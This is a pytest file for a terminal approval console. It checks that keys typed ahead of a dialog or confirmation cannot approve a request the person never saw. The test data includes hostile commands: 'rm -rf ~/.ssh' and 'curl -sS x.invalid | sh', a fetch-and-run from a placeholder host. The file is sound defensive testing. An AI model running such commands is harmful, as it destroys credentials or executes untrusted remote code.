"""Rows drawn behind a dialog are not on the screen.

The inbox counts a row as seen when the screen is drawn with it under the cursor, so that y
typed ahead never allows a row the person has not seen. With a dialog open (the help, a
confirmation), the dashboard underneath is still drawn, dimmed or hidden, and a request that
arrived then counted as seen: `esc y`, typed together to close the help and allow what the
person remembered, allowed `rm -rf ~/.ssh`, never visible. Closing the help also draws the
dashboard before the next key is handled, and the card is drawn when it opens: `esc a y` allowed
the card's request the same way. A key typed before the request was drawn is not about it.
"""

from __future__ import annotations

from typing import Any

import pytest

from console.tui.link import DaemonEvent
from console.tui.screens.approval import ApprovalScreen
from console.tui.screens.help import HelpScreen
from tests.tui.screen import app_with, attached, screen_text, until
from tests.tui.test_console_attacks_s19b import typed_ahead
from tests.tui.test_display_attacks_s19 import allows, request

pytestmark = pytest.mark.usefixtures("utc")


async def arrived_behind_the_help(pilot: Any, app: Any, rid: str, subject: str) -> Any:
    """The help opened over an empty inbox, then a request arriving under it."""
    from widgets.tables import ApprovalInbox

    app.screen.query_one(ApprovalInbox).focus()
    await pilot.press("question_mark")
    await until(pilot, lambda: isinstance(app.screen, HelpScreen), "the help")
    arrived = request(rid, subject, age=1)
    app.source.approvals.append(arrived)
    app.post_message(DaemonEvent({"kind": "approval.requested", "request": arrived}))
    inbox = app.screen_stack[0].query_one(ApprovalInbox)
    await until(pilot, lambda: inbox.selected_key() == rid, "the row behind the help")
    await pilot.pause(0.3)  # the dashboard behind the help is drawn again meanwhile
    assert subject not in screen_text(app)
    return inbox


@pytest.mark.parametrize("keys", [("escape", "y"), ("escape", "a", "y"), ("escape", "enter", "y")],
                         ids=["esc y on the row", "esc a y on the card", "esc enter y on the card"])
async def test_a_request_that_arrived_behind_the_help_is_not_allowed_by_keys_typed_ahead(
        keys: tuple[str, ...]) -> None:
    """The draws under the help do not count, and the keys were typed before the screen that
    shows the request was drawn after them: y opens the card, or on the card decides nothing."""
    app = app_with(approvals=[])
    async with app.run_test(size=(80, 24)) as pilot:
        await attached(pilot)
        await arrived_behind_the_help(pilot, app, "bh01", "rm -rf ~/.ssh")
        typed_ahead(app, *keys)
        await pilot.pause(0.5)
        assert allows(app) == [], "allowed a request typed ahead of its first draw"
        await until(pilot, lambda: isinstance(app.screen, ApprovalScreen), "the card instead")
        assert app.screen.request_id == "bh01"
        await pilot.pause(0.2)
        await pilot.press("y")  # typed once it is on the screen: it allows
        await until(pilot, lambda: allows(app), "the allow")
        assert allows(app) == [{"id": "bh01", "allow": True, "scope": "once"}]


async def test_y_typed_after_the_help_closed_allows_the_row() -> None:
    """A key typed once the row is on the screen decides it, as before."""
    app = app_with(approvals=[])
    async with app.run_test(size=(80, 24)) as pilot:
        await attached(pilot)
        await arrived_behind_the_help(pilot, app, "bh02", "echo shown")
        await pilot.press("escape")
        await until(pilot, lambda: "echo shown" in screen_text(app), "the row")
        await pilot.press("y")
        await until(pilot, lambda: allows(app), "the allow")
        assert allows(app) == [{"id": "bh02", "allow": True, "scope": "once"}]


async def test_a_yes_typed_ahead_of_a_confirmation_answers_nothing() -> None:
    """e y in one read: "Allow everywhere?" opened and was drawn, and the y typed with the e
    answered it, a global grant the person never read the question of."""
    from console.tui.screens.dialogs import ConfirmScreen

    app = app_with(approvals=[request("gl01", "curl -sS x.invalid | sh", age=5)])
    async with app.run_test(size=(80, 24)) as pilot:
        await attached(pilot)
        await pilot.press("a")
        await until(pilot, lambda: isinstance(app.screen, ApprovalScreen), "the card")
        await pilot.pause(0.2)
        typed_ahead(app, "e", "y")
        await until(pilot, lambda: isinstance(app.screen, ConfirmScreen), "the question")
        await pilot.pause(0.5)
        assert allows(app) == [] and isinstance(app.screen, ConfirmScreen), "answered unread"
        await pilot.press("y")
        await until(pilot, lambda: allows(app), "the allow")
        assert allows(app) == [{"id": "gl01", "allow": True, "scope": "global"}]


def test_a_network_card_asked_before_the_lookup_says_so() -> None:
    """The gate asks about a name no address rule could allow before it looks the name up; the
    card's "resolves to" said "-", as if the name had no address."""
    from console.text import review_rows

    def resolves_to(addresses: list[str]) -> str:
        rows = review_rows({"kind": "network", "subject": "files.example.invalid:443",
                            "detail": {"addresses": addresses, "method": "CONNECT",
                                       "target": "files.example.invalid:443"}})
        return next(r.value for r in rows if r.label == "resolves to")

    assert resolves_to([]).startswith("none yet: the name is looked up after a yes")
    assert resolves_to(["127.0.0.7", "127.0.0.8"]) == "127.0.0.7, 127.0.0.8"
